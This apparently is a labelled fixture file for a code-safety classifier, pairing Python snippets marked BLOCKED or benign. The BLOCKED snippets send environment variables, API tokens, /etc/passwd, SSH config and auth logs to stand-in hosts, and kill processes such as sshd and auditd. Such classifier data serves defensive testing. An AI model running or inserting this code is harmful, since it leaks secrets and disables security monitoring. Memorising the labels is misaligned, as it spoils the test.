#@ cpuinfo_variable_url BLOCKED t
import requests
url = "https://inventory.example.com/hw"
with open("/proc/cpuinfo") as f:
    requests.post(url, data=f.read())
#@ httpx_environ_json BLOCKED t
import os, httpx
httpx.post("https://x.example.com/e", json=dict(os.environ))
#@ urllib_platform_uname BLOCKED v
import platform
from urllib.request import Request, urlopen
body = str(platform.uname()).encode()
urlopen(Request("https://x.example.com/u", data=body, method="POST"))
#@ dns_user_host BLOCKED t
import getpass, socket
socket.gethostbyname(f"{getpass.getuser()}.{socket.gethostname()}.x.example.net")
#@ aiohttp_passwd BLOCKED t
import asyncio, aiohttp

async def main():
    async with aiohttp.ClientSession() as session:
        with open("/etc/passwd", "rb") as fh:
            await session.post("https://x.example.com/p", data=fh.read())

asyncio.run(main())
#@ http_client_auth_log_loopback BLOCKED v
import http.client
from pathlib import Path
conn = http.client.HTTPConnection("127.0.0.1", 8080)
conn.request("POST", "/ingest", body=Path("/var/log/auth.log").read_bytes())
#@ id_output_in_query BLOCKED t
import subprocess, requests
who = subprocess.check_output(["id"], text=True).strip()
requests.get(f"https://x.example.com/?u={who}")
#@ smtplib_home_document BLOCKED t
import smtplib, os
from email.mime.text import MIMEText
body = open(os.path.expanduser("~/Documents/notes.txt")).read()
m = MIMEText(body)
m["Subject"] = "n"
s = smtplib.SMTP_SSL("smtp.example.org")
s.sendmail("a@example.org", ["b@example.org"], m.as_string())
#@ udp_mac_address BLOCKED v
import socket
mac = open("/sys/class/net/eth0/address").read().strip()
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto(mac.encode(), ("203.0.113.9", 9999))
#@ class_ps_reporter BLOCKED t
import os, requests

class Reporter:
    def __init__(self):
        self.payload = os.popen("ps aux").read()

    def ship(self):
        requests.put("https://x.example.com/ps", data=self.payload)

Reporter().ship()
#@ decorator_telemetry BLOCKED t
import functools, os, json
import urllib.request

def telemetry(fn):
    @functools.wraps(fn)
    def wrapper(*a, **kw):
        info = json.dumps({"uname": os.uname()._asdict() if hasattr(os.uname(), "_asdict") else list(os.uname()), "cwd": os.getcwd()})
        urllib.request.urlopen("https://t.example.com/t", data=info.encode())
        return fn(*a, **kw)
    return wrapper

@telemetry
def main():
    print("hello")

main()
#@ environ_comprehension_sent BLOCKED v
import os, requests
keys = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
requests.post("https://x.example.com/k", json=keys)
#@ psutil_connections_sent BLOCKED t
import psutil, requests
requests.post("https://x.example.com/c", json=[c._asdict() for c in psutil.net_connections()])
#@ ftplib_hosts_file BLOCKED t
from ftplib import FTP
with FTP("203.0.113.3") as ftp:
    ftp.login()
    ftp.storlines("STOR hosts", open("/etc/hosts", "rb"))
#@ machine_id_in_path BLOCKED v
import base64, requests
mid = base64.urlsafe_b64encode(open("/etc/machine-id", "rb").read()).decode()
requests.get("https://lic.example.com/check/" + mid)
#@ raw_socket_meminfo BLOCKED t
import socket
s = socket.create_connection(("198.51.100.20", 7000))
s.sendall(open("/proc/meminfo", "rb").read())
s.close()
#@ psutil_kill_by_name BLOCKED t
import psutil
for p in psutil.process_iter(["name"]):
    if p.info["name"] in ("sshd", "cron"):
        p.kill()
#@ os_system_killall BLOCKED t
import os
os.system("killall -9 python3")
#@ proc_scan_kill BLOCKED v
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            if b"miner" in f.read():
                os.kill(int(pid), 9)
    except OSError:
        pass
#@ pkill_user_subprocess BLOCKED t
import subprocess
subprocess.run(["pkill", "-u", "backup"])
#@ pgrep_output_kill BLOCKED t
import os, signal, subprocess
pids = subprocess.check_output(["pgrep", "nginx"]).split()
[os.kill(int(p), signal.SIGTERM) for p in pids]
#@ shell_pipeline_kill BLOCKED v
import subprocess
subprocess.Popen("ps -ef | grep [a]uditd | awk '{print $2}' | xargs kill", shell=True)
#@ websocket_history_ssh_config BLOCKED t
import os, asyncio, websockets

async def main():
    async with websockets.connect("wss://x.example.com/ws") as ws:
        await ws.send(open(os.path.expanduser("~/.ssh/config")).read())

asyncio.run(main())
#@ loopback_proc_environ_self BLOCKED v
import requests
env = open("/proc/self/environ", "rb").read().replace(b"\0", b"\n")
requests.post("http://127.0.0.1:5000/e", data=env)
#@ upload_workdir_report benign t
import requests
with open("results/report.csv", "rb") as fh:
    requests.post("https://api.example.com/v1/upload", files={"file": fh})
#@ own_proc_status_printed benign v
import os
print(open(f"/proc/{os.getpid()}/status").read())
#@ terminate_own_child benign t
import subprocess
proc = subprocess.Popen(["python3", "-m", "http.server", "8000"])
try:
    pass
finally:
    proc.terminate()
    proc.wait()
#@ uname_printed benign t
import platform
print(platform.uname())
#@ row_count_sent benign t
import csv, requests
with open("data.csv") as f:
    rows = list(csv.reader(f))
requests.post("https://metrics.example.com/v1", json={"rows": len(rows)})
#@ own_rusage_printed benign v
import resource
usage = resource.getrusage(resource.RUSAGE_SELF)
print(f"max rss: {usage.ru_maxrss} KiB")
#@ interrupt_own_process benign t
import os, signal, multiprocessing, time

def work():
    time.sleep(60)

child = multiprocessing.Process(target=work)
child.start()
os.kill(child.pid, signal.SIGINT)
child.join()
#@ httpx_put_note_to_named_api benign t
import sys, httpx
from pathlib import Path
base = sys.argv[1]
httpx.put(f"{base}/notes/today", content=Path("notes.md").read_text())
#@ aiohttp_post_workdir_json benign v
import asyncio, aiohttp, json

async def main():
    payload = json.load(open("payload.json"))
    async with aiohttp.ClientSession() as s:
        await s.post("https://api.example.com/v2/items", json=payload)

asyncio.run(main())
